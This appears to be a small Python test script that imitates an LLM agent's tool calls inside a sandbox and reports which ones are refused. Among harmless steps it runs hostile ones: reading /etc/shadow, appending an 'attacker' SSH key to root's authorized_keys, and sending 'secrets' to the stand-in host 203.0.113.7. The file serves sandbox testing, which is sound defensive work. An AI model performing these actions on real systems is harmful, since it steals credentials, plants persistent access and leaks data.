#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""A small code-runner agent: it runs a few tool calls, as an LLM agent would."""
import os, socket

def step(title, fn):
    try:
        print(f"[agent] {title}: {fn()}", flush=True)
    except OSError as e:
        print(f"[agent] {title}: refused ({e.strerror})", flush=True)

step("safe computation, sum of squares below 1000", lambda: sum(i * i for i in range(1000)))
step("read /etc/shadow", lambda: open("/etc/shadow").read()[:20])
step("write /root/.ssh/authorized_keys", lambda: open("/root/.ssh/authorized_keys", "a").write("ssh-ed25519 AAAA attacker\n"))
step("send its findings to 203.0.113.7:443",
     lambda: socket.create_connection(("203.0.113.7", 443), timeout=5).sendall(b"secrets"))
step("write its work file", lambda: open("/tmp/agent-work/result.txt", "w").write("done\n"))
